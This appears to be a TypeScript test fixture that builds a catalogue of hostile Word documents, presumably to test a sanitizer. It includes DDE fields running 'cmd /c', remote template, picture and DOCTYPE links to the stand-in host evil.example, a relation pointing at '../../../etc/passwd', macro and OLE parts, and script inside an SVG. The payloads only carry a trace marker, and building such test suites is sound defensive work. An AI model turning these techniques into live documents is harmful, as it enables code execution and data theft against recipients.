/** Every trick of a Word document that is known to us, one function each. */
import {
  EXIF,
  docx,
  part,
  picture,
  relations,
  type NamedPart,
  SECRET_PLACE,
  W,
} from './sample-files.ts'
import type { ZipEntry } from './zip.ts'

interface HostileDocx {
  readonly title: string
  make(): Promise<Buffer>
}

export const SHOWN_IN_DOCX = 'What happened'
const DOCX_TRACE = 'Trace-4712'
const EVIL = `https://evil.example/${DOCX_TRACE}`
const OFFICE = 'application/vnd.openxmlformats-officedocument'
const R = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
const SPACES = `xmlns:w="${W}" xmlns:r="${R}" xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture" xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006" xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:wps="http://schemas.microsoft.com/office/word/2010/wordprocessingShape" xmlns:c="http://schemas.openxmlformats.org/drawingml/2006/chart"`

interface Parts {
  /** Beside the paragraph that is shown. */
  readonly body?: string
  /** Relations of the document. */
  readonly names?: readonly NamedPart[]
  readonly parts?: readonly ZipEntry[]
  /** Overrides of types by part. */
  readonly types?: Readonly<Record<string, string>>
}

function made({ body = '', names = [], parts = [], types = {} }: Parts): Promise<Buffer> {
  const overrides = Object.entries({
    'word/document.xml': `${OFFICE}.wordprocessingml.document.main+xml`,
    ...types,
  }).map(([name, type]) => `<Override PartName="/${name}" ContentType="${type}"/>`)
  return docx([
    part(
      '[Content_Types].xml',
      `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="jpeg" ContentType="image/jpeg"/><Default Extension="bin" ContentType="application/octet-stream"/>${overrides.join('')}</Types>`,
    ),
    part(
      'word/document.xml',
      `<?xml version="1.0"?><w:document ${SPACES}><w:body><w:p><w:r><w:t>${SHOWN_IN_DOCX}</w:t></w:r></w:p>${body}</w:body></w:document>`,
    ),
    part('word/_rels/document.xml.rels', relations(...names)),
    ...parts,
  ])
}

const paragraph = (runs: string): string => `<w:p>${runs}</w:p>`
/** A field in its long form; the code may be cut into runs. */
const field = (...code: string[]): string =>
  paragraph(
    `<w:r><w:fldChar w:fldCharType="begin"/></w:r>${code
      .map((piece) => `<w:r><w:instrText>${piece}</w:instrText></w:r>`)
      .join(
        '',
      )}<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>result</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>`,
  )
const withField =
  (...code: string[]) =>
  () =>
    made({ body: field(...code) })
/** A part beside the document, which it names by a relation. */
const beside = (type: string, name: string, content: string | Buffer, contentType: string) => () =>
  made({
    names: [{ type, target: name }],
    parts: [part(`word/${name}`, content)],
    types: { [`word/${name}`]: contentType },
  })
const elsewhere =
  (type: string, target = EVIL) =>
  () =>
    made({ names: [{ type, target, mode: 'External' }] })
const setting = (xml: string) =>
  beside(
    'settings',
    'settings.xml',
    `<w:settings ${SPACES}>${xml}</w:settings>`,
    `${OFFICE}.wordprocessingml.settings+xml`,
  )
const drawing = (blip: string): string =>
  paragraph(
    `<w:r><w:drawing><wp:inline><wp:extent cx="100000" cy="100000"/><wp:docPr id="1" name="${DOCX_TRACE}" descr="${DOCX_TRACE}"/><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic><pic:blipFill>${blip}</pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r>`,
  )
const photo = (): Promise<Buffer> =>
  picture(32, 32)
    .jpeg()
    .withExif({ ...EXIF, IFD0: { Copyright: DOCX_TRACE, Make: SECRET_PLACE } })
    .toBuffer()
const core = (): Promise<Buffer> =>
  made({
    parts: [
      part(
        'docProps/core.xml',
        `<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:creator>${DOCX_TRACE}</dc:creator></cp:coreProperties>`,
      ),
    ],
  })
const properties = (name: string, content: string) => () =>
  made({
    parts: [
      part(
        `docProps/${name}.xml`,
        `<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/${name}-properties">${content}</Properties>`,
      ),
    ],
  })
const renamedTwin = async (): Promise<Buffer> => {
  const twin = part('word/Document.xml', `<w:document ${SPACES}><w:body/></w:document>`)
  return made({ parts: [twin] })
}
const withComment = async (): Promise<Buffer> => {
  const archive = Buffer.from(await made({}))
  archive.writeUInt16LE(DOCX_TRACE.length, archive.length - 2)
  return Buffer.concat([archive, Buffer.from(DOCX_TRACE)])
}
type Row = readonly [title: string, make: HostileDocx['make']]

const PROGRAMS: readonly Row[] = [
  ['macros', beside('vbaProject', 'vbaProject.bin', 'VB', 'application/vnd.ms-office.vbaProject')],
  ['macros under another name', beside('vbaProject', 'data.bin', 'VB', 'application/octet-stream')],
  [
    'the type of a document with macros',
    () =>
      made({
        types: { 'word/other.xml': 'application/vnd.ms-word.document.macroEnabled.main+xml' },
      }),
  ],
  [
    'a control',
    beside('control', 'activeX/activeX1.bin', 'x', 'application/vnd.ms-office.activeX'),
  ],
  [
    'a control in the text',
    () =>
      made({
        body: paragraph(
          `<w:r><w:object><w:control r:id="r1" w:name="${DOCX_TRACE}"/></w:object></w:r>`,
        ),
      }),
  ],
  [
    'a program inside (OLE)',
    beside('oleObject', 'embeddings/oleObject1.bin', 'x', `${OFFICE}.oleObject`),
  ],
  ['a sheet inside', beside('package', 'embeddings/a.xlsx', 'PK', 'application/octet-stream')],
  ['a program of elsewhere (OLE link)', elsewhere('oleObject')],
  [
    'a page of HTML that is taken in',
    beside('aFChunk', 'page.html', '<script>1</script>', 'text/html'),
  ],
  ['a part of another format in the text', () => made({ body: '<w:altChunk r:id="r1"/>' })],
  [
    'bars of commands',
    beside(
      'keyMapCustomizations',
      'customizations.xml',
      `<wne:tcg xmlns:wne="http://schemas.microsoft.com/office/word/2006/wordml"><wne:fci wne:fciName="${DOCX_TRACE}"/></wne:tcg>`,
      'application/vnd.ms-word.keyMapCustomizations+xml',
    ),
  ],
  [
    'a bar with a command at opening',
    () =>
      made({
        parts: [
          part(
            'customUI/customUI.xml',
            `<customUI xmlns="http://schemas.microsoft.com/office/2006/01/customui" onLoad="${DOCX_TRACE}"/>`,
          ),
        ],
      }),
  ],
]

const ELSEWHERE: readonly Row[] = [
  [
    'a template of elsewhere',
    () =>
      made({
        parts: [
          part(
            'word/settings.xml',
            `<w:settings ${SPACES}><w:attachedTemplate r:id="r1"/></w:settings>`,
          ),
          part(
            'word/_rels/settings.xml.rels',
            relations({ type: 'attachedTemplate', target: EVIL, mode: 'External' }),
          ),
        ],
      }),
  ],
  [
    'a template of elsewhere in references to letters',
    elsewhere('attachedTemplate', EVIL.replace('h', '&#104;')),
  ],
  [
    'the mode of a relation in references to letters',
    async () =>
      made({
        parts: [
          part(
            'word/_rels/document.xml.rels',
            relations({ type: 'image', target: EVIL, mode: 'Ext&#101;rnal' }),
          ),
        ],
      }),
  ],
  [
    'a picture of elsewhere',
    () =>
      made({
        names: [{ type: 'image', target: EVIL, mode: 'External' }],
        body: drawing('<a:blip r:link="r1"/>'),
      }),
  ],
  [
    'a picture of elsewhere in an older drawing',
    () =>
      made({
        body: paragraph(
          `<w:r><w:pict><v:shape o:href="${EVIL}"><v:imagedata src="${EVIL}"/></v:shape></w:pict></w:r>`,
        ),
      }),
  ],
  [
    'a link to a place on the net',
    () =>
      made({
        names: [{ type: 'hyperlink', target: EVIL, mode: 'External' }],
        body: paragraph('<w:hyperlink r:id="r1"><w:r><w:t>link</w:t></w:r></w:hyperlink>'),
      }),
  ],
  ['a link to a share of Windows', elsewhere('hyperlink', String.raw`file://\\evil.example\share`)],
  [
    'another document that is taken in',
    () =>
      made({
        names: [{ type: 'subDocument', target: EVIL, mode: 'External' }],
        body: '<w:subDoc r:id="r1"/>',
      }),
  ],
  ['a frame of elsewhere', elsewhere('frame')],
  [
    'a source for letters to many',
    setting(`<w:mailMerge><w:query w:val="${DOCX_TRACE}"/><w:dataSource r:id="r1"/></w:mailMerge>`),
  ],
  [
    'a relation that leaves the package',
    () => made({ names: [{ type: 'image', target: '../../../etc/passwd' }] }),
  ],
  [
    'a chart with a sheet of elsewhere',
    beside(
      'chart',
      'charts/chart1.xml',
      `<c:chartSpace ${SPACES}><c:externalData r:id="${DOCX_TRACE}"/></c:chartSpace>`,
      `${OFFICE}.drawingml.chart+xml`,
    ),
  ],
  [
    'an alternative with a picture of elsewhere',
    () =>
      made({
        body: paragraph(
          `<w:r><mc:AlternateContent><mc:Choice Requires="wps"><w:pict><v:imagedata src="${EVIL}"/></w:pict></mc:Choice><mc:Fallback><w:t>plain</w:t></mc:Fallback></mc:AlternateContent></w:r>`,
        ),
      }),
  ],
]

const FIELDS: readonly Row[] = [
  ['DDE', withField(`DDE cmd "/c ${DOCX_TRACE}"`)],
  ['DDE that starts by itself, in pieces', withField('DD', 'EAU', `TO cmd "/c ${DOCX_TRACE}"`)],
  [
    'DDE in the short form',
    () =>
      made({
        body: paragraph(
          `<w:fldSimple w:instr="DDEAUTO cmd /c ${DOCX_TRACE}"><w:r><w:t>x</w:t></w:r></w:fldSimple>`,
        ),
      }),
  ],
  ['a picture that is taken in', withField(`INCLUDEPICTURE "${EVIL}" \\d`)],
  ['a text that is taken in', withField(`INCLUDETEXT "${EVIL}"`)],
  ['a link to a sheet', withField(`LINK Excel.Sheet.8 "${EVIL}"`)],
  ['a code that is made of numbers', withField('QUOTE 68 68 69 32 ', DOCX_TRACE)],
  ['a link by a field', withField(`HYPERLINK "${EVIL}"`)],
  ['a button that runs a macro', withField(`MACROBUTTON ${DOCX_TRACE} click`)],
  [
    'a code within a code',
    () =>
      made({
        body: paragraph(
          `<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>IF </w:instrText></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDE ${DOCX_TRACE}</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>${DOCX_TRACE}</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>`,
        ),
      }),
  ],
  ['fields that are renewed at opening', setting('<w:updateFields w:val="true"/>')],
]

const NAMES: readonly Row[] = [
  ['the author', core],
  [
    'the company and the template',
    properties('extended', `<Company>${DOCX_TRACE}</Company><Template>${DOCX_TRACE}</Template>`),
  ],
  ['properties of one’s own', properties('custom', `<property name="${DOCX_TRACE}"/>`)],
  [
    'a comment with its writer',
    beside(
      'comments',
      'comments.xml',
      `<w:comments ${SPACES}><w:comment w:id="0" w:author="${DOCX_TRACE}" w:initials="T"/></w:comments>`,
      `${OFFICE}.wordprocessingml.comments+xml`,
    ),
  ],
  [
    'the list of people',
    beside(
      'people',
      'people.xml',
      `<people userId="${DOCX_TRACE}"/>`,
      'application/vnd.openxmlformats-officedocument.wordprocessingml.people+xml',
    ),
  ],
  [
    'changes with their writer',
    () =>
      made({
        body: paragraph(
          `<w:ins w:id="1" w:author="${DOCX_TRACE}" w:date="2026-01-01T00:00:00Z"><w:r><w:t>new</w:t></w:r></w:ins><w:del w:id="2" w:author="${DOCX_TRACE}"><w:r><w:delText>${DOCX_TRACE}</w:delText></w:r></w:del>`,
        ),
      }),
  ],
  [
    'numbers of sittings',
    () => made({ body: '<w:p w:rsidR="00A77B3E" w:rsidRDefault="00A77B3E"/>' }),
  ],
  ['variables', setting(`<w:docVars><w:docVar w:name="a" w:val="${DOCX_TRACE}"/></w:docVars>`)],
  [
    'data behind the document',
    () =>
      made({
        body: `<w:sdt><w:sdtPr><w:dataBinding w:xpath="/${DOCX_TRACE}"/></w:sdtPr><w:sdtContent><w:p/></w:sdtContent></w:sdt>`,
        parts: [part('customXml/item1.xml', `<a>${DOCX_TRACE}</a>`)],
      }),
  ],
  [
    'a bookmark',
    () =>
      made({
        body: paragraph(
          `<w:bookmarkStart w:id="0" w:name="${DOCX_TRACE}"/><w:bookmarkEnd w:id="0"/>`,
        ),
      }),
  ],
  [
    'a photo with its place',
    async () =>
      made({
        names: [{ type: 'image', target: 'media/image1.jpeg' }],
        parts: [part('word/media/image1.jpeg', await photo())],
        body: drawing('<a:blip r:embed="r1"/>'),
      }),
  ],
  [
    'a drawing that is a page (SVG)',
    () =>
      made({
        names: [{ type: 'image', target: 'media/a.svg' }],
        parts: [
          part(
            'word/media/a.svg',
            `<svg xmlns="http://www.w3.org/2000/svg"><script>${DOCX_TRACE}</script></svg>`,
          ),
        ],
        body: drawing('<a:blip r:embed="r1"/>'),
      }),
  ],
  [
    'a font inside',
    beside(
      'font',
      'fonts/font1.odttf',
      DOCX_TRACE,
      'application/vnd.openxmlformats-officedocument.obfuscatedFont',
    ),
  ],
  [
    'settings of a printer',
    beside('printerSettings', 'printerSettings1.bin', DOCX_TRACE, 'application/octet-stream'),
  ],
  [
    'building blocks',
    beside(
      'glossaryDocument',
      'glossary/document.xml',
      `<w:glossaryDocument ${SPACES}><w:t>${DOCX_TRACE}</w:t></w:glossaryDocument>`,
      `${OFFICE}.wordprocessingml.document.glossary+xml`,
    ),
  ],
  [
    'a small picture of the first page',
    () => made({ parts: [part('docProps/thumbnail.jpeg', DOCX_TRACE)] }),
  ],
  ['a comment of the archive', withComment],
  [
    'known elements of an unknown namespace',
    () =>
      made({
        body: `<x:p xmlns:x="urn:x"><x:r><x:t>${DOCX_TRACE}</x:t></x:r><w:p><w:r><w:t>${DOCX_TRACE}</w:t></w:r></w:p></x:p>`,
      }),
  ],
  [
    'words in a comment of XML',
    () => made({ body: `<!-- ${DOCX_TRACE} --><?php ${DOCX_TRACE} ?>` }),
  ],
]

const WHOLE: readonly Row[] = [
  ['two parts of one name', renamedTwin],
  [
    'a document type with words of its own',
    beside(
      'settings',
      'settings.xml',
      `<!DOCTYPE w [<!ENTITY e "boom boom">]><w:settings ${SPACES}>&e;</w:settings>`,
      `${OFFICE}.wordprocessingml.settings+xml`,
    ),
  ],
  [
    'a document type of elsewhere',
    beside(
      'settings',
      'settings.xml',
      `<!DOCTYPE settings SYSTEM "${EVIL}"><w:settings ${SPACES}/>`,
      `${OFFICE}.wordprocessingml.settings+xml`,
    ),
  ],
  [
    'a part in another encoding',
    beside(
      'settings',
      'settings.xml',
      Buffer.from(`\ufeff<w:settings ${SPACES}><w:attachedTemplate/></w:settings>`, 'utf16le'),
      `${OFFICE}.wordprocessingml.settings+xml`,
    ),
  ],
]

export const HOSTILE_DOCX: readonly HostileDocx[] = [
  ...PROGRAMS,
  ...ELSEWHERE,
  ...FIELDS,
  ...NAMES,
  ...WHOLE,
].map(([title, make]) => ({ title, make }))
